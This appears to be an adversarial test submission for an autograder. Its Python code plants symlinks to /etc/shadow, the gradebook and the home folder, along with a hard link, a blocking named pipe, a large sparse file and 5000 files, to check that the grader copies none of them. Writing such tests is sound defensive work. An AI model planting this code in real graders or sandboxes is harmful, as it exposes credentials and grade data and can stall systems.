"""A correct f, and in the same cell a folder full of traps for whoever copies the kernel's
working folder afterwards (nbgrader copies a submission's extra files into autograded/ and
feedback/; a sandbox may copy its scratch folder back): symlinks to the gradebook, to the
course directory, to /etc/shadow, to /proc/1/root and to the home folder; a hard link to the
gradebook if one is reachable; a named pipe (a copy that opens it blocks forever); a 256 MiB
sparse file (a copy writes it out in full); and 5000 small files. All named
PWNED-litters_its_folder-*. What must happen: none of them reach submitted/, autograded/ or
feedback/, no secret is copied by following a link, the grader neither hangs nor fills the
disk, and this submission scores full marks."""

LOSES = []

# %% f
import os
import pathlib
import signal


def _litter():
    mark = "PWNED" + "-litters_its_folder"
    here = pathlib.Path(os.getcwd()).resolve()
    root = next((d for d in (here, *here.parents) if (d / "nbgrader_config.py").is_file()
                 or (d / "gradebook.db").is_file()), None)
    made = 0
    links = {"gradebook": "../../../gradebook.db", "etc-shadow": "/etc/shadow",
             "pid1-root": "/proc/1/root", "home": os.path.expanduser("~"),
             "course": str(root or "../../..")}
    for name, target in links.items():
        try:
            os.symlink(target, here / f"{mark}-{name}")
            made += 1
        except OSError:
            pass
    if root is not None and (root / "gradebook.db").is_file():
        try:
            os.link(root / "gradebook.db", here / f"{mark}-gradebook-hardlink")
            made += 1
        except OSError:
            pass
    try:
        os.mkfifo(here / f"{mark}-fifo")
        made += 1
    except OSError:
        pass
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a file size limit then gives EFBIG
    try:
        with open(here / f"{mark}-sparse", "wb") as sparse:
            sparse.truncate(256 * 2**20)
        made += 1
    except OSError:
        pass
    many = here / f"{mark}-many"
    try:
        many.mkdir(exist_ok=True)
        for i in range(5000):
            (many / f"{mark}-{i}").write_text(mark)
            made += 1
    except OSError:
        pass
    return made


def f(x):  # before the litter: a busy machine may cut this cell at the time limit
    return (x - 0.5) ** 2


try:
    print(f"made {_litter()} entries")
except Exception as error:
    print("blocked:", type(error).__name__)
